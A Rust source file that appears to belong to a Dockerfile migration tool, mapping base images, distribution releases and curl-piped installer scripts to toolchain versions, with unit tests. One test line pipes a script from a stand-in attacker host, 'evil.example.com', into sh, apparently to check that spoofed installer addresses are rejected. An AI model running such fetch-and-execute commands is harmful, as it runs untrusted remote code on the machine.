//! What is known of the bases and installers of old Dockerfiles: `known.toml` as questions that a migration asks.

use std::collections::BTreeMap;
use std::sync::LazyLock;

use serde::Deserialize;

use super::assess::ObstacleKind;
use super::bases::Bases;
use crate::dockerfile::script::{Command, Then};
use crate::dockerfile::{ImageRef, Origin};

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Table {
    stack: BTreeMap<String, Images>,
    alike: toml::Table,
    distribution: BTreeMap<String, Distribution>,
    installer: Vec<Installer>,
    command: Vec<VersionCommand>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Images {
    versioned: Vec<String>,
    beside: Vec<String>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Distribution {
    #[serde(default)]
    releases: Vec<Release>,
}

/// What the packages of one release of a distribution bring.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub(super) struct Release {
    /// As they stand in tags.
    names: Vec<String>,
    /// Node.js of `nodejs`.
    pub node: Option<String>,
    /// Python of `python`.
    pub python2: Option<String>,
    /// Python of `python3`.
    pub python3: Option<String>,
    /// Java of `default-jdk`.
    pub java: Option<String>,
}

/// A script that is piped into a shell and brings a toolchain.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub(super) struct Installer {
    address: String,
    /// The stack whose toolchain, or whose package manager, it brings.
    pub brings: String,
    version: Option<String>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct VersionCommand {
    words: Vec<String>,
    brings: String,
}

/// What a base image is to a stack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Role {
    /// The toolchain's own image: its tag is the version.
    Versioned,
    /// An image that brings the toolchain beside something else.
    Beside,
    /// A distribution: packages bring the toolchain.
    Distribution,
}

static TABLE: LazyLock<Table> =
    LazyLock::new(|| toml::from_str(include_str!("known.toml")).expect("known.toml is read by a test"));

/// The images that are an official one under another name.
pub(super) fn alike() -> Bases {
    Bases::from_rows(
        TABLE.alike.iter().filter_map(|(name, like)| Some((name.clone(), like.as_str()?.to_owned()))),
    )
}

/// What an image of Docker Hub is to a stack; none where nobody knows what it brings.
pub(super) fn role(image: &ImageRef, stack: &str) -> Option<Role> {
    let is_hub = image.registry.as_deref().is_none_or(|registry| registry == "docker.io");
    let name = official(image);
    let is_in = |names: &[String]| names.iter().any(|known| known == name);
    let own = TABLE.stack.get(stack);
    let role = match own {
        Some(own) if is_in(&own.versioned) => Role::Versioned,
        Some(own) if is_in(&own.beside) => Role::Beside,
        _ if TABLE.distribution.contains_key(name) => Role::Distribution,
        _ => return None,
    };
    is_hub.then_some(role)
}

/// Why nobody knows what a base brings to this stack; none where it is known.
pub(super) fn strange(origin: &Origin, bases: &Bases, stack: &str) -> Option<(ObstacleKind, String)> {
    match origin {
        Origin::Image(written) => {
            let public = bases.public(written);
            let image = public.as_ref().unwrap_or(written);
            let why =
                format!("`{image}` is not an official image of this stack; nobody knows what it brings");
            role(image, stack).is_none().then_some((ObstacleKind::UnknownBase, why))
        }
        Origin::Unclear(text) => {
            Some((ObstacleKind::UnknownBase, format!("`{text}` is decided by whoever builds")))
        }
        Origin::Scratch | Origin::Stage(_) => {
            let why = "the image starts from nothing, so it is a good one already";
            Some((ObstacleKind::HasStages, why.to_owned()))
        }
    }
}

/// The name of an official image.
pub(super) fn official(image: &ImageRef) -> &str {
    image.repository.strip_prefix("library/").unwrap_or(&image.repository)
}

/// The release that a tag of a distribution names; none for one that moves.
pub(super) fn release(image: &ImageRef) -> Option<&'static Release> {
    let tag = image.tag.as_deref()?;
    let tag = tag.split('-').next().unwrap_or(tag);
    let is_named = |name: &String| {
        tag == name || tag.strip_prefix(name.as_str()).is_some_and(|rest| rest.starts_with('.'))
    };
    let releases = &TABLE.distribution.get(official(image))?.releases;
    releases.iter().find(|release| release.names.iter().any(is_named))
}

impl Installer {
    /// The installer that a download fetches.
    pub fn of(fetcher: &Command) -> Option<&'static Self> {
        TABLE.installer.iter().find(|row| row.address_in(fetcher).is_some())
    }

    fn address_in<'c>(&self, fetcher: &'c Command) -> Option<&'c str> {
        fetcher.words.iter().map(|word| word.text.as_str()).find(|word| {
            let bare = word.strip_prefix("https://").or_else(|| word.strip_prefix("http://")).unwrap_or(word);
            bare.strip_prefix("www.").unwrap_or(bare).starts_with(&self.address)
        })
    }

    /// The version in its address: `8` of `…/setup_8.x`.
    fn version(&self, fetcher: &Command) -> Option<String> {
        let (_, rest) = self.address_in(fetcher)?.split_once(self.version.as_deref()?)?;
        let end = rest.find(|c: char| !c.is_ascii_digit() && c != '.').unwrap_or(rest.len());
        let version = rest[..end].trim_end_matches('.');
        (!version.is_empty()).then(|| version.to_owned())
    }
}

/// The version of a stack's toolchain that a command asks for: by an installer's address, or as its own word.
pub(super) fn asked_version(command: &Command, stack: &str) -> Option<String> {
    let by_installer = Installer::of(command).filter(|row| row.brings == stack && command.then == Then::Pipe);
    if let Some(row) = by_installer {
        return row.version(command);
    }
    let words: Vec<&str> = std::iter::once(command.program()?)
        .chain(command.args().iter().map(|word| word.text.as_str()))
        .collect();
    let rows = TABLE.command.iter().filter(|row| row.brings == stack);
    let mut behind = rows.filter_map(|row| {
        let is_it =
            words.len() > row.words.len() && row.words.iter().zip(&words).all(|(row, word)| row == word);
        is_it.then(|| words[row.words.len()].trim_start_matches('v'))
    });
    behind.find(|word| word.starts_with(|c: char| c.is_ascii_digit())).map(str::to_owned)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dockerfile::script::commands;

    #[test]
    fn images_have_a_role() {
        for (image, stack, role_of) in [
            ("node:8-alpine", "node", Some(Role::Versioned)),
            ("library/golang", "go", Some(Role::Versioned)),
            ("docker.io/library/python:3", "python", Some(Role::Versioned)),
            ("maven:3-jdk-8", "java", Some(Role::Beside)),
            ("ubuntu:14.04", "python", Some(Role::Distribution)),
            ("ruby:2.6", "node", None),
            ("corp.example.com/node:8", "node", None),
            ("somebody/node", "node", None),
        ] {
            assert_eq!(role(&image.parse().unwrap(), stack), role_of, "{image}");
        }
        let alike = alike();
        for (image, public) in [
            ("mhart/alpine-node:8.9", Some("node:8.9")),
            ("registry.docker-cn.com/library/python:3.6.4", Some("python:3.6.4")),
            ("arm32v7/node:10", Some("node:10")),
            ("somebody/node", None),
        ] {
            let found = alike.public(&image.parse().unwrap()).map(|image| image.to_string());
            assert_eq!(found.as_deref(), public, "{image}");
        }
    }

    #[test]
    fn releases_know_their_toolchains() {
        let python3 = |image: &str| release(&image.parse().unwrap())?.python3.as_deref();
        assert_eq!(python3("ubuntu:14.04"), Some("3.4"));
        assert_eq!(python3("ubuntu:14.04.4"), Some("3.4"));
        assert_eq!(python3("debian:stretch-slim"), Some("3.5"));
        assert_eq!(python3("alpine:3.1"), Some("3.4"));
        assert_eq!(python3("alpine:3.10.2"), Some("3.7"));
        assert_eq!(python3("ubuntu:latest"), None);
        assert_eq!(python3("ubuntu"), None);
    }

    #[test]
    fn installers_and_versions_are_known() {
        for (script, stack, version) in [
            ("curl -sL https://deb.nodesource.com/setup_8.x | sudo -E bash -", "node", Some("8")),
            ("curl -sL https://deb.nodesource.com/setup_0.12 | bash", "node", Some("0.12")),
            ("curl -sL https://deb.nodesource.com/setup_8.x | bash -", "python", None),
            ("curl -sL https://deb.nodesource.com/setup | bash -", "node", None),
            ("nvm install v6.3.0", "node", Some("6.3.0")),
            ("n stable", "node", None),
            ("n 10.1.0", "node", Some("10.1.0")),
            ("curl https://evil.example.com/deb.nodesource.com/setup_8.x | sh", "node", None),
        ] {
            let found = commands(script).iter().find_map(|command| asked_version(command, stack));
            assert_eq!(found.as_deref(), version, "{script}");
        }
    }
}
